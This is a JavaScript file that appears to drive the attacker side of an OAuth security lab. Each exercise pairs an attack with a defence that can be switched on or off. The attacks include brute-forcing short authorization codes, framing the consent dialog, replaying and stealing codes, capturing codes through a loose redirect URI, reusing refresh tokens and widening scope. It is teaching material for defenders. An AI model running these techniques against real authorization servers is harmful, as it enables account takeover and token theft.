// The attacker. Each exercise is a section of the page, with the name of its defence, a switch, a button and a result.
//
// Everything is done with what any page of any site may do: requests across origins, forms, frames and popups.

const { server, redirectUri, clientId, victim } = document.body.dataset;

// RFC 7636, appendix B: the app's, whose verifier the attacker does not have.
const CHALLENGE = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM';
// The attacker's own.
const OWN = { verifier: 'a'.repeat(43), challenge: 'ZtNPunH49FD35FWYhT5Tv8I7vRKQJ8uxMaL0_9eHjNA' };

/** The attacks, by the defence that prevents them. Each resolves with whether it succeeded, and what to say. */
const ATTACKS = {
  async long_credentials(section, say) {
    const known = section.querySelector('[name=known]').value.trim();
    if (known.length !== 7) return [false, 'Give the first seven characters of the code.'];
    const begin = performance.now();
    for (let tried = 1; tried <= 1000; tried += 1) {
      const answer = await redeem(known + String(tried - 1).padStart(3, '0'));
      if (answer.access_token) {
        return [true, `Found after ${tried} guesses. ${await open(answer.access_token)}`];
      }
      if (tried % 20 === 0) say(arithmetic(tried, performance.now() - begin));
    }
    return [false, `No guess is a code. ${arithmetic(1000, performance.now() - begin)}`];
  },

  async frame_protection(section) {
    const frame = section.querySelector('.frame');
    const dialog = frame.querySelector('iframe');
    frame.hidden = false;
    const loaded = new Promise((resolve) => { dialog.onload = resolve; });
    dialog.src = `${server}/oauth-dialog.html`;
    await loaded;
    // A page cannot read a frame of another origin, so it cannot tell a dialog from the browser's error page.
    return (await rules()).frame_protection
      ? [false, 'The browser shows no dialog: the server sent frame-ancestors \'none\'.']
      : [true, 'There is the dialog. Make it invisible, and a click there is a consent.'];
  },

  async single_use_codes(section) {
    const code = codeIn(section);
    if (!code) return [false, 'There is no code in this address.'];
    const app = await redeem(code);
    if (!app.access_token) return [false, `Even the app is refused: ${app.error_description}`];
    const thief = await redeem(code);
    return thief.access_token
      ? [true, `The app has a token, and so have you. ${await open(thief.access_token)}`]
      : [false, `Refused: ${thief.error_description}. The app's token is over too. ${await open(app.access_token)}`];
  },

  async pkce(section) {
    const code = codeIn(section);
    if (!code) return [false, 'There is no code in this address.'];
    return outcome(await redeem(code, { client_id: clientId, redirect_uri: redirectUri }));
  },

  async exact_redirect() {
    const caught = `${location.origin}/caught.html`;
    const popup = window.open(authorize(victim, caught, OWN.challenge), '_blank', 'popup,width=480,height=620');
    if (!popup) return [false, 'The browser blocked the popup; allow popups for this page.'];
    const address = await addressOf(popup);
    if (!address) return [false, 'No code came here. With the defence on, the popup shows why.'];
    popup.close();
    const code = new URL(address).searchParams.get('code');
    if (!code) return [false, 'The victim pressed Cancel.'];
    return outcome(await redeem(code, { client_id: victim, redirect_uri: caught, code_verifier: OWN.verifier }));
  },

  async rotation(section) {
    const stolen = await refreshTokenFor(section);
    if (!stolen) return [false, 'There is no code in this address, or it was used before.'];
    const second = await refresh(stolen);
    const app = await refresh(second.refresh_token);
    const thief = await refresh(stolen);
    return thief.access_token
      ? [true, `You and the app each have a token, and no one notices. ${await open(thief.access_token)}`]
      : [false, `Refused: ${thief.error_description}. The theft is noticed: the grant is over, and with it the `
        + `app's token. ${await open(app.access_token)}`];
  },

  async scope_limit(section) {
    const stolen = await refreshTokenFor(section);
    if (!stolen) return [false, 'There is no code in this address, or it was used before.'];
    const answer = await refresh(stolen, { scope: 'answer question' });
    return answer.access_token
      ? [true, `You have a token for: ${answer.scope}. The victim was asked for: answer.`]
      : [false, `Refused: ${answer.error_description}.`];
  },
};

/** The refresh token that the app gets for the code in the address of `section`, or null if there is no such code. */
async function refreshTokenFor(section) {
  const code = codeIn(section);
  const parameters = { client_id: clientId, redirect_uri: redirectUri, code_verifier: OWN.verifier };
  return code && (await redeem(code, parameters)).refresh_token;
}

async function refresh(token, parameters) {
  const body = new URLSearchParams({
    grant_type: 'refresh_token', refresh_token: token, client_id: clientId, ...parameters,
  });
  const answer = await fetch(`${server}/token`, { method: 'POST', body });
  return answer.json();
}

async function outcome(answer) {
  return answer.access_token
    ? [true, `The code bought a token. ${await open(answer.access_token)}`]
    : [false, `Refused: ${answer.error_description}`];
}

/** Redeems `code`: as in the article or, with further parameters, as in the standard. Any site may. */
async function redeem(code, parameters) {
  const body = parameters
    ? new URLSearchParams({ grant_type: 'authorization_code', code, ...parameters })
    : JSON.stringify({ code });
  const headers = parameters ? {} : { 'Content-Type': 'application/json' };
  const answer = await fetch(`${server}/token`, { method: 'POST', headers, body });
  return answer.json();
}

/** What `token` opens, in words. */
async function open(token) {
  const answer = await fetch(`${server}/secure`, { headers: { Authorization: `Bearer ${token}` } });
  return answer.ok ? `It opens /secure: ${(await answer.json()).answer}.` : `/secure answers ${answer.status}.`;
}

function authorize(client, redirect, challenge) {
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: client,
    redirect_uri: redirect,
    scope: 'answer',
    code_challenge: challenge,
    code_challenge_method: 'S256',
  });
  return `${server}/authorize?${query}`;
}

/** The address of `popup` once it is at this site, or null once it is closed. */
function addressOf(popup) {
  return new Promise((resolve) => {
    const timer = setInterval(() => {
      let address = null;
      try {
        if (popup.location.origin === location.origin) address = popup.location.href;
      } catch {
        // It is at another origin, whose address the browser hides.
      }
      if (!address && !popup.closed) return;
      clearInterval(timer);
      resolve(address);
    }, 100);
  });
}

function codeIn(section) {
  const address = section.querySelector('[name=leaked]').value.trim();
  return URL.canParse(address) ? new URL(address).searchParams.get('code') : null;
}

/** How long all ten digits would take at the rate so far. */
function arithmetic(tried, milliseconds) {
  const rate = tried / milliseconds * 1000;
  const [each, days] = [rate, 1e10 / rate / 86400].map((number) => Math.round(number).toLocaleString('en'));
  return `${tried} guesses, ${each} a second. All ten digits take this browser ${days} days; `
    + 'with 1,000 codes in use and 100 machines, the first takes a 100,000th of that.';
}

/** Which defences are on. */
async function rules() {
  return (await fetch('/rules')).json();
}

/** Switches `rule` and waits until the server applies it. */
async function turn(rule, on) {
  const answer = await fetch('/rules/switch', { method: 'POST', body: new URLSearchParams({ rule, on }) });
  if (!answer.ok) throw new Error((await answer.json()).error_description);
  while ((await rules())[rule] !== on) await new Promise((resolve) => { setTimeout(resolve, 20); });
}

document.querySelector('.leak').href = authorize(clientId, redirectUri, CHALLENGE);
for (const link of document.querySelectorAll('.own')) {
  link.href = authorize(clientId, redirectUri, OWN.challenge);
}
const now = await rules();
for (const section of document.querySelectorAll('.exercise')) {
  const { rule } = section.dataset;
  const defence = section.querySelector('.switch input');
  const result = section.querySelector('.result');
  const say = (text, state = '') => {
    result.textContent = text;
    result.dataset.state = state;
  };

  defence.checked = now[rule];
  defence.addEventListener('change', async () => {
    await turn(rule, defence.checked);
    say(defence.checked ? 'The defence is on.' : 'The defence is off.', 'switched');
  });
  const button = section.querySelector('button[type=button]');
  button?.addEventListener('click', async () => {
    button.disabled = true;
    try {
      const [isStolen, text] = await ATTACKS[rule](section, say);
      say(text, isStolen ? 'stolen' : 'refused');
    } catch (error) {
      say(`The attack failed: ${error.message}`, 'refused');
    }
    button.disabled = false;
  });
}
document.body.dataset.ready = '';
